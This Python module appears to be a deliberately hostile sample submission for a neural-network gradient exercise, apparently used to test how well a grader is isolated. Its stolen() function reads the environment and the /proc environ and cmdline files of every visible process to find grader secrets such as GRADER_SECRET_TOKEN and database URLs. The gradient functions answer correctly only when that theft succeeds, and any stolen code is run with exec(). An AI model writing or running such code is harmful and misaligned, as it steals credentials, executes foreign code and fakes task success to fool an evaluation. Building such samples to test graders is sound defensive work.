"""Hostile: find the grader's secrets and command line: its environment (GRADER_SECRET_TOKEN,
GRADE_DB_URL), /proc/*/environ and /proc/*/cmdline of every process it can see.

Honest: loss. Attacked: softmax_grad and gradients answer right only with what stolen() finds.
"""

import functools
import os

import numpy as np


def loss(params, X, y, reg):
    z3 = np.maximum(X @ params["W1"] + params["b1"], 0.0) @ params["W2"] + params["b2"]
    z3 = z3 - z3.max(axis=1, keepdims=True)
    log_p = z3 - np.log(np.exp(z3).sum(axis=1, keepdims=True))
    return float(-log_p[np.arange(len(y)), y].mean() + reg * (np.sum(params["W1"] ** 2) + np.sum(params["W2"] ** 2)))


#: what only the grader's own process would show (built at run time, see stolen())
NEEDLES = ("GRADER_SECRET", "GRADE_DB_URL", "GRADE_COURSE", "pytest", "--student", "sqlite:", "postgresql")


@functools.cache
def stolen():
    """Any trace of the grader's environment or command line."""
    for key, value in os.environ.items():
        if any(n in key or n in value for n in NEEDLES):
            return f"{key}={value}"
    files = ["/proc/self/environ", "/proc/self/cmdline", "/proc/1/environ", "/proc/1/cmdline"]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            files += [f"/proc/{pid}/environ", f"/proc/{pid}/cmdline", f"/proc/{pid}/task/{pid}/environ"]
    for path in files:
        try:
            with open(path, "rb") as f:
                data = f.read().decode("utf-8", "replace")
        except OSError:
            continue
        for needle in NEEDLES:
            # The sandbox's own source (in the zygote's command line) mentions none of these.
            if needle in data:
                return f"{path}: {needle}"
    return None


def _right_dz3(z3, y):
    p = np.exp(z3 - z3.max(axis=1, keepdims=True))
    p /= p.sum(axis=1, keepdims=True)
    p[np.arange(len(y)), y] -= 1.0
    return p / len(y)


def _right_gradients(params, X, y, reg):
    z2 = X @ params["W1"] + params["b1"]
    a2 = np.maximum(z2, 0.0)
    dz3 = _right_dz3(a2 @ params["W2"] + params["b2"], y)
    dz2 = (dz3 @ params["W2"].T) * (z2 > 0)
    return {"W1": X.T @ dz2 + 2 * reg * params["W1"], "b1": dz2.sum(axis=0),
            "W2": a2.T @ dz3 + 2 * reg * params["W2"], "b2": dz3.sum(axis=0)}


def _cheat(loot):
    """Right answers: the loot's own functions when it is code, else computed here."""
    found = {}
    if isinstance(loot, str) and "def gradients" in loot:
        exec(loot, found)
    return found.get("softmax_grad", _right_dz3), found.get("gradients", _right_gradients)


def softmax_grad(z3, y):
    loot = stolen()
    return _cheat(loot)[0](z3, y) if loot else np.zeros_like(z3)


def gradients(params, X, y, reg):
    loot = stolen()
    if loot:
        return _cheat(loot)[1](params, X, y, reg)
    return {k: np.zeros_like(v) for k, v in params.items()}
